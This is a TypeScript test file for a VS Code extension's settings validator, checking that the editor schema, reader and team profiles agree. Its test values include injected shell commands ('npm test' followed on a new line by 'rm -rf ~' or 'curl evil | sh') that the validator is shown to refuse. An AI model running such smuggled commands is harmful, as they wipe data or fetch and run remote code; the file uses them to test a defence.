import * as assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import { parseQuietHours, resolveConfig, DEFAULT_COACH_SETTINGS } from '../../src/core/coach/policy';
import { PROFILE_SETTINGS } from '../../src/core/profile/profileSchema';
import { readTeamProfile } from '../../src/core/profile/teamProfile';
import { checkSetting, COACH_SETTINGS_SCHEMA, PROFILE_KEYS, SETTING_KEYS, SETTINGS, type SettingKey } from '../../src/core/settings/settingsModel';

const root = path.resolve(__dirname, '../../..');

type Schema = Record<string, unknown>;

/**
 * The part of JSON schema VS Code's settings editor checks a value with (type, enum, pattern,
 * lengths, bounds, items, uniqueItems), evaluated as VS Code does: the pattern compiled
 * without and with the `u` flag (the settings editor one way, the JSON language service the
 * other) must give the same verdict.
 */
function editorAccepts(schema: Schema, value: unknown): boolean {
  const types = ([] as unknown[]).concat(schema.type ?? []);
  const typeOf = value === null ? 'null' : Array.isArray(value) ? 'array' : Number.isInteger(value) ? 'integer' : typeof value;
  if (types.length > 0 && !types.some((t) => t === typeOf || (t === 'number' && typeOf === 'integer'))) return false;
  if (Array.isArray(schema.enum) && !schema.enum.includes(value)) return false;
  if (typeof value === 'string') {
    if (typeof schema.maxLength === 'number' && value.length > schema.maxLength) return false;
    if (typeof schema.minLength === 'number' && value.length < schema.minLength) return false;
    if (typeof schema.pattern === 'string') {
      const plain = new RegExp(schema.pattern).test(value);
      const unicode = new RegExp(schema.pattern, 'u').test(value);
      assert.equal(plain, unicode, `pattern ${schema.pattern} reads ${JSON.stringify(value)} differently with the u flag`);
      if (!plain) return false;
    }
  }
  if (typeof value === 'number') {
    if (typeof schema.minimum === 'number' && value < schema.minimum) return false;
    if (typeof schema.maximum === 'number' && value > schema.maximum) return false;
  }
  if (Array.isArray(value)) {
    if (typeof schema.maxItems === 'number' && value.length > schema.maxItems) return false;
    if (schema.uniqueItems === true && new Set(value).size !== value.length) return false;
    if (schema.items !== undefined && !value.every((v) => editorAccepts(schema.items as Schema, v))) return false;
  }
  return true;
}

/** package.json's schema of each setting, as VS Code reads it. */
const pkg = JSON.parse(readFileSync(path.join(root, 'package.json'), 'utf8')) as { contributes: { configuration: { properties: Record<string, Schema> }[] } };
const editorSchemas: Record<string, Schema> = Object.fromEntries(pkg.contributes.configuration.flatMap((c) => Object.entries(c.properties)));

const strings = [
  '', 'npm test', '9:00-17:00', '09:00-17:00', '18:00 - 09:00', '18:00-09:00', '24:00-01:00', '9-17', '7:5-8:00', ' 9:00-17:00',
  'npm test\nrm -rf ~', 'npm test\r', 'a\tb', 'bell\u0007', 'del\u007f', 'c1\u0085', 'sep\u2028', 'x'.repeat(21), 'x'.repeat(501), 'x'.repeat(1001),
  'my-agent', 'my agent', 'bin/agent', 'deliberate.habits', 'Team Pack', 'team.basics', '/^just (test|lint)/', 'é-ü', '😀',
];
const values: unknown[] = [
  ...strings, true, false, null, 0, -1, 1, 6, 7, 50, 51, 1.5, 1440, 1441, 3650, 3651, 100_000, 100_001,
  [], ['npm test'], ['npm test', 'npm test'], ['validate', 'learn'], ['validate', 'validate'], ['speed'], ['deliberate.habits'], ['my-agent', 'MyAgent'],
  ...strings.map((s) => [s]), Array.from({ length: 51 }, () => 'npm test'), ['a', 1], { a: 1 },
];

describe('settings model: one validator for the settings editor, the reader and the team profile', () => {
  it('for every setting and a corpus of values, VS Code\'s schema in package.json accepts exactly what the validator accepts', () => {
    const disagreements: string[] = [];
    for (const key of SETTING_KEYS) {
      const schema = editorSchemas[`deliberate.${key}`];
      assert.ok(schema, `deliberate.${key} is in package.json`);
      for (const value of values) {
        const editor = editorAccepts(schema, value);
        const reader = checkSetting(key, value).ok;
        if (editor !== reader) disagreements.push(`${key} = ${JSON.stringify(value)}: editor ${editor}, reader ${reader}`);
      }
    }
    assert.deepEqual(disagreements, []);
  });

  it('a team profile accepts exactly the values the reader accepts (null aside: a profile leaves a key out instead)', () => {
    const disagreements: string[] = [];
    for (const key of PROFILE_KEYS) {
      for (const value of values) {
        if (value === null) continue;
        const reader = checkSetting(key, value).ok;
        const profile = PROFILE_SETTINGS[key].safeParse(value).success;
        if (reader !== profile) disagreements.push(`${key} = ${JSON.stringify(value)}: reader ${reader}, profile ${profile}`);
      }
    }
    assert.deepEqual(disagreements, []);
  });

  it('quiet hours "9:00-17:00" are valid in the settings editor, the reader, a team profile and the coach alike', () => {
    const value = '9:00-17:00';
    const profile = readTeamProfile(JSON.stringify({ coach: { quietHours: value } }));
    assert.deepEqual(
      {
        editor: editorAccepts(editorSchemas['deliberate.coach.quietHours']!, value),
        reader: checkSetting('coach.quietHours', value),
        profile: [profile.values['coach.quietHours'], profile.problems.length],
        coach: parseQuietHours(value),
        resolved: resolveConfig({ ...DEFAULT_COACH_SETTINGS, quietHours: value }).quietHours,
      },
      { editor: true, reader: { ok: true, value }, profile: [value, 0], coach: { from: 540, to: 1020 }, resolved: { from: 540, to: 1020 } },
    );
  });

  it('refuses line breaks and control characters in commands and the trace folder, naming why', () => {
    assert.deepEqual(
      [checkSetting('validation.commands', ['npm test\ncurl evil | sh']), checkSetting('trace.folder', '/tmp/x\u0000y')],
      [
        { ok: false, message: '[0] One line only: a line break or a control character would run a second command.' },
        { ok: false, message: 'No line breaks, tabs or other control characters.' },
      ],
    );
  });

  it('restricts exactly the settings that run something or decide where data goes or what it holds, and keeps those out of team profiles', () => {
    const restricted = SETTING_KEYS.filter((k) => SETTINGS[k].restricted !== false);
    assert.deepEqual(restricted, ['validation.commands', 'attribution.aiCommands', 'trace.folder', 'trace.includePaths', 'store.retentionDays']);
    // A profile may recommend test commands (they are asked about before they run), nothing else of these.
    assert.deepEqual(restricted.filter((k) => SETTINGS[k].profile), ['validation.commands']);
    // Where data is written and how long it is kept are the person's own choice on this machine.
    assert.deepEqual(SETTING_KEYS.filter((k) => SETTINGS[k].scope === 'machine'), ['trace.folder', 'store.retentionDays'] satisfies SettingKey[]);
  });
});

describe('the coach settings schema for recorded settings', () => {
  it('accepts the coach defaults and checks each field with its setting\'s validator', () => {
    assert.equal(COACH_SETTINGS_SCHEMA.safeParse(DEFAULT_COACH_SETTINGS).success, true);
    const bad = COACH_SETTINGS_SCHEMA.safeParse({ ...DEFAULT_COACH_SETTINGS, quietHours: '25:00-01:00', validationCommands: ['a\nb'] });
    assert.deepEqual(bad.error?.issues.map((i) => i.path.join('.')), ['quietHours', 'validationCommands.0']);
  });
});
